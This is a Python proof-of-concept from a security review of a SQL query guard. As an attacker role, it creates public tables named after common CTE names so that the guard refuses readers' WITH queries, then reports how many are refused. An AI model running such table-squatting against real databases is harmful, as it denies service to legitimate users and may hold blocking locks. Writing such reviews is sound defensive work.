"""attack4 (found via target 4): a WITH name the attacker squats in public refuses the query.

The guard takes an unqualified name in FROM as every relation it may resolve to, and does not
see that a WITH of that name is in scope (PostgreSQL resolves it to the CTE, always, outside
the CTE's own non-recursive definition). The attacker (legacy CREATE on public) creates
tables named like the CTEs agents write (recent, totals, ranked, base, cte, t, ...): every
query using such a CTE is refused (untrusted_owner), and the server first LOCKs the
attacker's table (an ACCESS EXCLUSIVE held by the attacker holds the call: advice_cte.py).
Run: PYTHONPATH=tests:security-review uv run python security-review/attack4/cte_squat.py
"""
import asyncio
import sys

import asyncpg
from common import as_role, tool
from mcpclient import connect

NAMES = ["recent", "totals", "ranked", "base", "cte", "t"]


async def main() -> int:
    atk = await asyncpg.connect(as_role("attacker"))
    refused = 0
    async with connect(as_role("reader")) as cl:
        for name in NAMES:
            sql = f"WITH {name} AS (SELECT 1 AS a) SELECT a FROM {name}"
            before, _ = await tool(cl, "execute_query", sql=sql)
            await atk.execute(f"CREATE TABLE public.{name} (a int); GRANT SELECT ON public.{name} TO PUBLIC")
            after, body = await tool(cl, "execute_query", sql=sql)
            await atk.execute(f"DROP TABLE public.{name}")
            refused += before and not after
            print(f"WITH {name}: before ok={before}, squatted ok={after}",
                  "" if after else body["error"]["message"][:90])
    await atk.close()
    print(f"FINDING: {refused} of {len(NAMES)} refused once squatted" if refused else "held")
    return int(bool(refused))


if __name__ == "__main__":
    sys.exit(asyncio.run(main()))
